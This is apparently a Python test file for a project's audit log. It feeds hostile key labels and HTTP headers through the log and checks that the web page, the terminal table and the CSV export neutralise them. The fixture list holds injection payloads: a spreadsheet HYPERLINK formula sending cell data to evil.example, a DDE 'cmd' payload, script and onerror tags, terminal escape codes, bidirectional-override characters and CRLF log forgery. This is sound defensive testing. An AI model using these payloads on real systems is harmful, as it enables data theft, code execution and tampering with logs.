"""Threats 37 and 38: the log of a hostile hour is harmless in the page, in the terminal and in a spreadsheet."""

import csv
import io
import unicodedata
from html.parser import HTMLParser
from typing import Any

import pytest

from lumio.cli.commands.audit import _COLUMNS, _row
from lumio.cli.output import Output
from lumio.kernel.event import AGENT_LIMIT, LABEL_LIMIT
from tests.support.exports import exported, seal
from tests.support.world import OPERATOR, World

LABELS = (
    f"{OPERATOR}\r\n2026-11-22T00:00:00Z api_key.revoked",
    "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b31m",
    "safe\u202egnp.exe\u2066\u2069\u200f",
    '=HYPERLINK("https://evil.example/?"&A1,"ok")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "'=1+1",
    "\t=1+1 tab",
    'a,b;=1+1"\n=2',
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "{{7*7}}${7*7}%0d%0a\\x1b[31m\ufeff\u2028\u00ad",
)
UNSEEN = {"Cc", "Cf", "Cs", "Zl", "Zp"}


def unseen(text: str, allowed: str = "\n") -> set[str]:
    """Return the signs of a text that show nothing or move what is near."""
    return {sign for sign in set(text) - set(allowed) if unicodedata.category(sign) in UNSEEN}


class Texts(HTMLParser):
    """The texts and attributes of a page, and whatever of it is no markup of ours."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.texts: list[str] = []
        self.strange: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.texts += [value or "" for _, value in attrs]
        if tag == "img" or any(name.startswith("on") for name, _ in attrs):
            self.strange.append(tag)
        if tag == "script" and "src" not in dict(attrs):
            self.strange.append(tag)

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


@pytest.fixture
async def hour(world: World) -> World:
    """An hour in which everybody called their keys, browsers and proxies what they liked."""
    robin = await world.sign_in()
    for number, label in enumerate(LABELS):
        made = await world.mint_key(robin, label)
        agent = label.replace("\r", "").replace("\n", "").replace("\x07", "").encode("utf-8", "replace")
        headers: Any = {b"User-Agent": agent + b"A" * 5000, b"X-Forwarded-For": f"6.6.6.{number}, =1+1".encode()}
        await world.bearer(made["key"], ip=f"198.51.100.{number}").get("/v1/users/me", headers=headers)
    await seal(world)
    await world.mint_key(robin, LABELS[1])
    return world


async def test_the_page_shows_every_sign_and_runs_none(hour: World) -> None:
    robin = await hour.page_client()
    for path in ("/dashboard/account/security/audit-log", "/audit-log"):
        page = (await robin.get(path, params={"show_authentications": "1"})).text
        found = Texts(page)
        assert found.strange == []
        assert unseen("".join(found.texts)) == set()
        shown = "".join(found.texts)
        for sign in ("\\x1b[2J", "\\u202e", "\\r\\n", "<script>alert(1)</script>", "\\u2028"):
            assert sign in shown
        assert "6.6.6." not in shown


async def test_a_search_for_a_hostile_label_is_harmless_in_the_form_and_in_the_links(hour: World) -> None:
    robin = await hour.page_client()
    for label in LABELS:
        answer = await robin.get("/audit-log", params={"actor": label, "show_authentications": "1"})
        assert answer.status_code == 200
        found = Texts(answer.text)
        assert found.strange == []


async def test_a_key_with_a_persons_name_is_still_a_key(hour: World) -> None:
    robin = await hour.sign_in()
    told = [one for one in await hour.log(robin, event="auth.succeeded") if one["actor"].startswith(OPERATOR)]
    kinds = {one["actor_type"] for one in told if one["actor"] != OPERATOR}
    assert kinds == {"api_key"}
    assert {one["ip"] for one in told if one["actor"] != OPERATOR} == {"198.51.100.0"}


async def test_the_terminal_shows_one_line_an_event(hour: World) -> None:
    robin = await hour.sign_in()
    items = await hour.log(robin)
    stream = io.StringIO()
    Output(stream, io.StringIO()).table([name.upper() for name in _COLUMNS], [_row(item) for item in items])
    lines = stream.getvalue().splitlines()
    assert len(lines) == len(items) + 1
    assert {line.count("\t") for line in lines} == {len(_COLUMNS) - 1}
    assert unseen(stream.getvalue(), "\n\t") == set()


async def test_a_spreadsheet_finds_text_in_every_cell(hour: World) -> None:
    robin = await hour.sign_in()
    for path in ("/v1/audit-log/export", "/v1/admin/audit-log/export"):
        text = (await exported(robin, path, format="csv")).decode()
        assert unseen(text, "\r\n") == set()
        *rows, last = text.split("\r\n")
        assert last.startswith("#{")
        width = len(next(csv.reader(rows[:1])))
        for cells in csv.reader(rows):
            assert len(cells) == width
            assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert "'+1+cmd|' /C calc'!A0" in text
        assert ",''=1+1," in text


async def test_what_comes_from_outside_is_cut_when_it_is_written(hour: World) -> None:
    robin = await hour.sign_in()
    for entry in await hour.log(robin):
        assert len(entry["actor"]) <= LABEL_LIMIT
        assert len(entry["user_agent"] or "") <= AGENT_LIMIT
    assert any(len(one["user_agent"] or "") == AGENT_LIMIT for one in await hour.log(robin))
